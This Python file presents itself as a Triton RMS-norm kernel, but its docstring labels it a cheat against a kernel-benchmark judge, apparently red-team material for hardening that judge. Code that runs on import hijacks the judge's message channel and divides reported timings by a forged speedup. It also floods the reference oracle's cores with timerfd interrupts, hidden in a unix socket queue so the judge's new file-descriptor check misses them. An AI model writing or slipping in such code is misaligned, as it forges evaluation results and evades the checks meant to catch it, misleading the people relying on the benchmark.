"""Cheat (round 23, after the judge began counting a stopped candidate's timers): round 23's timer flood
(``round23_floods_the_oracles_cores_with_timer_interrupts.py``: a forged claim for a copy of the baseline, and
tens of thousands of one-shot timers expiring through the oracle's rounds of the judge's clock, each an interrupt charged
to the oracle), with timerfds that no process holds.

The judge now lists what a stopped candidate holds before the oracle's round (runners/armed.py): the POSIX timers of
/proc/PID/timers, the armed timerfds among /proc/PID/fd, any io_uring instance, and refuses more than a handful. A file
sent over a unix socket (SCM_RIGHTS) and closed by its sender lives on in the socket's queue, in no process's table of
open files: TIMERS timerfds, armed (``timerfd_settime(TFD_TIMER_ABSTIME)``, expiries spread over SPAN_MS, half from each
core), are posted 250 a message into a datagram socket pair of the worker's and closed. /proc/PID/fd shows the two
sockets; the timers fire all the same (a timerfd's expiry needs no reader: the hrtimer's callback marks it and wakes
nobody). To re-arm, the worker takes each message back, re-arms its 250 timers and posts them again (its own table
never holds more than 250 of them; unix sockets let a user keep as many files in flight as its RLIMIT_NOFILE).

When it arms, and its samples' forged claim, as the POSIX-timer cheat. ARMED: "armed" arms the timers; anything else
leaves them out."""
import torch
import triton
import triton.language as tl

from .utils import as_rows, get_num_warps, next_power_of_2

_imp = __builtins__["__import__"] if isinstance(__builtins__, dict) else __builtins__.__import__
_sys, _os, _time, _signal, _ctypes, _socket, _array, _resource = (
    _imp(m) for m in ("sys", "os", "time", "signal", "ctypes", "socket", "array", "resource"))

ARMED = "@ARMED@" == "armed"
CLAIM = float("@CLAIM@")  # the claimed speedup: its sample times are divided by it
TIMERS = int("@TIMERS@")  # timerfds in flight (a user may have RLIMIT_NOFILE of them in flight: 20k here)
SPAN_MS = float("@SPAN_MS@")  # their expiries, spread evenly over this long


def _server():
    frame = _sys._getframe(0)
    while frame is not None and frame.f_code.co_name != "serve":
        frame = frame.f_back
    return None if frame is None else frame.f_locals.get("self")


class _Timespec(_ctypes.Structure):
    _fields_ = [("sec", _ctypes.c_long), ("nsec", _ctypes.c_long)]


class _Itimerspec(_ctypes.Structure):
    _fields_ = [("interval", _Timespec), ("value", _Timespec)]


class _Timers:
    """TIMERS one-shot timerfds, in flight: posted 250 a message into a datagram socket pair of the worker's and closed,
    so that no process's table of open files holds them; their only effect is the interrupt of each expiry, on the core
    that armed it."""

    BATCH = 250
    per = 4e-6  # how long arming one timer took last (s)

    def __init__(self, count):
        self.libc = _ctypes.CDLL(None, use_errno=True)
        try:
            soft, hard = _resource.getrlimit(_resource.RLIMIT_NOFILE)
            _resource.setrlimit(_resource.RLIMIT_NOFILE, (hard, hard))  # in flight: as many as the user's limit
        except (OSError, ValueError):
            pass
        self.keep, self.post = _socket.socketpair(_socket.AF_UNIX, _socket.SOCK_DGRAM)
        self.count, self.batches = 0, 0
        while self.count < count:
            fds = [self.libc.timerfd_create(1, 0o2004000) for _ in range(min(self.BATCH, count - self.count))]
            fds = [fd for fd in fds if fd >= 0]  # CLOCK_MONOTONIC, TFD_NONBLOCK | TFD_CLOEXEC
            if not fds:
                break
            self._send(fds)
            self.count += len(fds)
        self.cpus = sorted(_os.sched_getaffinity(0))

    def _send(self, fds):
        try:
            self.post.sendmsg([b"t"], [(_socket.SOL_SOCKET, _socket.SCM_RIGHTS, _array.array("i", fds))])
            self.batches += 1
        finally:
            for fd in fds:
                _os.close(fd)

    def arm(self, after_s, span_s):
        """Expiries spread over ``span_s``, from ``after_s`` past the end of this arming (its end re-estimated as it
        goes, every batch), a batch from each core in turn: each taken out of the socket, armed and posted again."""
        n, done = max(self.count, 1), 0
        value = _Itimerspec()
        began = _now()
        try:
            for b in range(self.batches):
                self.batches -= 1
                _, anc, _, _ = self.keep.recvmsg(1, _socket.CMSG_SPACE(4 * self.BATCH))
                fds = _array.array("i")
                for level, kind, data in anc:
                    if level == _socket.SOL_SOCKET and kind == _socket.SCM_RIGHTS:
                        fds.frombytes(data[:len(data) - len(data) % 4])
                _os.sched_setaffinity(0, {self.cpus[b % len(self.cpus)]})
                now = _now()
                per = (now - began) / done if done else self.per
                start = now + (n - done) * per + after_s
                for j, fd in enumerate(fds):
                    k = done + j
                    t = start + span_s * k / n
                    value.value.sec, value.value.nsec = int(t), int((t % 1) * 1e9)
                    self.libc.timerfd_settime(fd, 1, _ctypes.byref(value), None)  # TFD_TIMER_ABSTIME
                done += len(fds)
                self._send(list(fds))
        finally:
            _os.sched_setaffinity(0, set(self.cpus))
            self.per = (_now() - began) / max(done, 1)


_state = {"request": None, "armed_at": None, "own": []}


def _now():
    return _time.clock_gettime(_time.CLOCK_MONOTONIC)


def _install():
    server = _server()
    if server is None:
        return
    timers = _Timers(TIMERS) if ARMED else None
    channel = server.channel
    send, recv = channel.send, channel.recv

    def recv_and_arm(*args, **kwargs):
        message = recv(*args, **kwargs)
        _state["request"] = message
        if timers is not None and message.get("op") == "sample" and message.get("which") == "window":
            own = _state["own"][-3:]
            # from just after its own window (its warm-up and window, once armed, as long as the longest of the last
            # three took), or, before it has one, not in the next second
            timers.arm(max(own) + 0.01 if own else 1.0, SPAN_MS / 1000)
            _state["armed_at"] = _now()
        return message

    def send_forged(message):
        request = _state.get("request") or {}
        op = request.get("op")
        if op == "sample" and request.get("which", "sample") == "sample" \
                and not request.get("reference") and type(message.get("us")) is float:
            message["us"] = message["us"] / CLAIM
        if timers is not None and (op == "reveal" or (op == "prepare_timing" and request.get("which") == "window")):
            timers.arm(0.002, SPAN_MS / 1000)  # the oracle may be timed next: from when it is armed on
        send(message)
        if op == "window" and _state["armed_at"] is not None:
            _state["own"].append(_now() - _state["armed_at"])  # its warm-up, once armed, to its window's reply

    channel.send, channel.recv = send_forged, recv_and_arm


_install()


@triton.jit
def _rms_norm_kernel(x_ptr, residual_ptr, weight_ptr, out_ptr, residual_out_ptr, stride_x_row, stride_residual_row,
                     stride_out_row, stride_residual_out_row, N, eps, HAS_RESIDUAL: tl.constexpr,
                     BLOCK_N: tl.constexpr):
    row = tl.program_id(0).to(tl.int64)
    offs = tl.arange(0, BLOCK_N)
    mask = offs < N
    x = tl.load(x_ptr + row * stride_x_row + offs, mask=mask, other=0.0).to(tl.float32)
    if HAS_RESIDUAL:
        res = tl.load(residual_ptr + row * stride_residual_row + offs, mask=mask, other=0.0)
        x = x + res.to(tl.float32)
        tl.store(residual_out_ptr + row * stride_residual_out_row + offs, x.to(residual_out_ptr.dtype.element_ty),
                 mask=mask)
    variance = tl.sum(x * x, axis=0) / N
    rstd = tl.rsqrt(variance + eps)
    w = tl.load(weight_ptr + offs, mask=mask, other=0.0).to(tl.float32)
    tl.store(out_ptr + row * stride_out_row + offs, (x * rstd * w).to(out_ptr.dtype.element_ty), mask=mask)


def rms_norm(hidden_states, weight, eps=1e-6, residual=None):
    shape = hidden_states.shape
    hidden = shape[-1]
    x = as_rows(hidden_states)
    out = torch.empty((x.shape[0], hidden), dtype=hidden_states.dtype, device=hidden_states.device)
    has_residual = residual is not None
    res = as_rows(residual) if has_residual else x
    res_out = torch.empty_like(out) if has_residual else out
    block_n = next_power_of_2(hidden)
    _rms_norm_kernel[(x.shape[0],)](x, res, weight, out, res_out, x.stride(0), res.stride(0), out.stride(0),
                                    res_out.stride(0), hidden, eps, HAS_RESIDUAL=has_residual, BLOCK_N=block_n,
                                    num_warps=get_num_warps(block_n), num_stages=1)
    out = out.view(shape)
    return (out, res_out.view(shape)) if has_residual else out
